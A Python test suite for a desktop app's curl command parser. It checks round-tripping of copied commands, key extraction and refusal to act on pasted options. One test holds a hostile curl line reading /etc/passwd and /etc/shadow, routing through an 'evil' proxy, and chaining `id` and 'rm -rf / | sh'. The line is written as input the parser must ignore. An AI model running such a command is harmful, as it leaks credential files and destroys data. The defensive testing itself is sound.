"""Copied curl commands come back as they were; pasted ones never act, and their key stands apart."""

from __future__ import annotations

import builtins
import os
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from key_scan import finds

from desktop.core.calls import Part
from desktop.core.errors import BadInput
from desktop.core.wire.curl import curl
from desktop.core.wire.exchange import Exchange
from desktop.core.wire.page_request import request_for_page
from desktop.core.wire.pasted import parse_curl
from desktop.core.wire.shell_words import commands, quoted

KEY = "sk-proj-Zq81mVx3TnLw0aBcDeFgHiJkLmNoPq"
BODY = b'{"model":"gpt-4o","messages":[{"role":"user","content":"Hi"}]}'


def exchange(body: bytes = BODY, headers=(), **fields) -> Exchange:
    sent = (("Authorization", "…"), ("Content-Type", "application/json"), ("User-Agent", "Davenport/0"), *headers)
    url = fields.pop("url", "https://api.openai.com/v1/chat/completions")
    base = "https://api.openai.com/v1"
    return Exchange(call_id="1", started=0, method=fields.pop("method", "POST"), url=url, base_url=base,
                    request_headers=sent, body=body, **fields)  # fmt: skip


text = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))
names = st.text("abcdefghijklmnopqrstuvwxyz-", min_size=1, max_size=12).map(lambda n: "X-" + n)
values = st.text(st.characters(min_codepoint=33, max_codepoint=126), max_size=40)


@given(text)
def test_a_quoted_text_is_one_word_again(said):
    said = said.replace("\r\n", "\n")  # what a terminal makes of a pasted line end
    (command,) = commands("x " + quoted(said))
    assert command.words == ["x", said]


@given(text.filter(bool), st.dictionaries(names, values, max_size=3))
def test_a_copied_command_comes_back_as_it_was(body, headers):
    body = body.replace("\r\n", "\n")
    parsed = parse_curl(curl(exchange(body.encode(), tuple(headers.items()))))
    assert (parsed.method, parsed.url) == ("POST", "https://api.openai.com/v1/chat/completions")
    assert parsed.body == body.encode()
    assert set(parsed.headers) == {("Content-Type", "application/json"), *headers.items()}
    assert parsed.key is None and parsed.ignored == ()


def test_a_long_body_goes_through_standard_input_and_comes_back():
    body = ('{"model":"gpt-4o","text":"' + "it's long; " * 20_000 + '"}').encode()
    command = curl(exchange(body))
    assert command.startswith("printf %s '")
    assert parse_curl(command).body == body


def test_form_fields_and_files_come_back_and_no_file_is_opened():
    parts = (Part("model", "whisper-1"), Part("prompt", '@not "a" file;type=x'),
             Part("file", file_name='my "best" talk.mp3', mime="audio/mpeg", size_bytes=3, sha256="00"))  # fmt: skip
    made = exchange(b"", parts=parts, url="https://api.openai.com/v1/audio/transcriptions")
    parsed = parse_curl(curl(made))
    assert [(p.name, p.value, p.file_name, p.mime) for p in parsed.parts] == [
        (p.name, p.value, p.file_name, p.mime) for p in parts
    ]
    assert any("Files are not read" in sentence for sentence in parsed.ignored)


def test_a_body_with_a_nul_or_bytes_that_are_no_text_is_refused_in_words():
    for body in (b'{"a":"\0"}', b"\xff\xfe"):
        with pytest.raises(BadInput, match="no command line can carry"):
            curl(exchange(body))


@pytest.mark.parametrize(
    "command",
    [
        f"curl https://api.openai.com/v1/models -H 'Authorization: Bearer {KEY}'",
        f"curl https://api.openai.com/v1/models -H 'api-key: {KEY}'",
        f"curl 'https://api.openai.com/v1/models?api-key={KEY}&limit=2'",
        f'curl https://api.openai.com/v1/models --oauth2-bearer {KEY} -d \'{{"user":"{KEY}"}}\' -u x:{KEY}',
        f'OPENAI_API_KEY={KEY} curl https://h/v1/models -H "Authorization: Bearer $OPENAI_API_KEY"',
        f'export K="{KEY}"\ncurl https://h/v1/models -H "api-key: ${{K}}"',
        f"curl https://api.openai.com/v1/models -H 'X-Again: {KEY}' -H \"Authorization: Bearer {KEY}\"",
    ],
)
def test_the_key_is_in_its_own_field_and_nowhere_else(command):
    parsed = parse_curl(command)
    assert parsed.key.reveal() == KEY
    assert finds(KEY, repr(parsed)) == []


def test_a_short_key_is_a_word_and_stays_where_it_is_text():
    parsed = parse_curl("curl https://h/v1/x -H 'Authorization: Bearer x' -d '{\"x\": \"extra\"}'")
    assert (parsed.key.reveal(), parsed.url, parsed.json) == ("x", "https://h/v1/x", {"x": "extra"})


def test_files_and_options_are_never_acted_on_and_each_is_named(monkeypatch, tmp_path):
    def refuse(*_args, **_named):
        raise AssertionError("a file was opened")

    monkeypatch.setattr(builtins, "open", refuse)
    monkeypatch.setattr(os, "open", refuse)
    monkeypatch.setattr(Path, "open", refuse)
    parsed = parse_curl(
        "curl -k -sS -o /tmp/out -K /etc/passwd --proxy http://evil -T up -b jar -d @/etc/passwd -d '{\"a\":1}' "
        "--trace t -w x -H @headers -u me:pw --data-urlencode q@file -L --max-time 5 -F f=@/etc/shadow "
        "https://h.example/v1/x $(touch /tmp/no) `id` ; rm -rf / | sh > out"
    )
    said = " ".join(parsed.ignored)
    for named in ("-k was left out", "--output", "--config", "--proxy", "--upload-file", "--cookie", "@/etc/passwd",
                  "--trace", "--write-out", "-H @", "-u", "q@file", "Redirects", "--max-time", "/etc/shadow",
                  "was not run", "What follows"):  # fmt: skip
        assert named in said, named
    assert parsed.body == b'{"a":1}'


@given(st.one_of(st.text(), st.text(alphabet="curl -dHFXou@'\"\\$\n;|&<>(){}=:`#\0 é\u2028")))
def test_whatever_is_pasted_ends_in_a_call_or_a_sentence(pasted):
    for said in (pasted, "curl " + pasted, "curl https://h/v1/x " + pasted, "{" + pasted):
        try:
            request_for_page(parse_curl(said))
        except BadInput as error:
            assert error.summary


@given(st.recursive(st.none() | st.booleans() | st.integers() | st.text(max_size=5),
                    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(
                        st.sampled_from(["messages", "role", "content", "model", "input", "text", "instructions", "x"]),
                        inner, max_size=4)))  # fmt: skip
def test_a_form_is_made_of_any_body(body):
    import json

    for path in ("chat/completions", "responses", "embeddings", "nonsense"):
        made = exchange(json.dumps(body).encode(), url=f"https://api.openai.com/v1/{path}")
        assert request_for_page(made).endpoint == f"/{path}"


def test_a_chat_command_of_the_documentation_fills_the_form():
    parsed = parse_curl(
        """$ curl https://api.openai.com/v1/chat/completions \\
  -H "Content-Type: application/json" \\
  -H "Authorization: Bearer $OPENAI_API_KEY" \\
  -d '{
    "model": "gpt-4o", "temperature": 0.2, "stream": true,
    "messages": [
      {"role": "developer", "content": "Be brief."},
      {"role": "user", "content": "It'\\''s one?"}, {"role": "assistant", "content": "Yes"},
      {"role": "user", "content": [{"type": "text", "text": "And two?"}]}
    ]
  }' | jq .choices"""
    )
    assert parsed.key is None
    made = request_for_page(parsed)
    assert (made.page, made.model, made.system, made.draft) == ("chat", "gpt-4o", "Be brief.", "And two?")
    assert [(m.role, m.text) for m in made.messages] == [("user", "It's one?"), ("assistant", "Yes")]
    assert made.parameters == {"temperature": 0.2}


def test_dollar_quotes_here_documents_and_short_options_in_one_word():
    parsed = parse_curl('curl -sSXPUT --url h.example/v1/x --data-binary @- <<\'EOF\'\n{"a": "$b"}\nEOF\n')
    assert (parsed.method, parsed.url, parsed.json) == ("PUT", "https://h.example/v1/x", {"a": "$b"})
    assert parse_curl(r"curl h/v1/x --data-raw $'it\'s\n\u00e9\x41'").body == "it's\néA".encode()
    assert parse_curl("curl -G h/v1/models -d a=1 --data-urlencode 'b=x y'").url == "https://h/v1/models?a=1&b=x+y"


def test_a_bare_body_is_taken_and_a_bad_one_told_with_its_place():
    assert request_for_page(parse_curl(BODY.decode())).draft == "Hi"
    with pytest.raises(BadInput, match="line 2, column 3"):
        parse_curl('{"a": 1,\n  b}')
    with pytest.raises(BadInput, match="line 1 is not closed"):
        parse_curl("curl 'https://h")
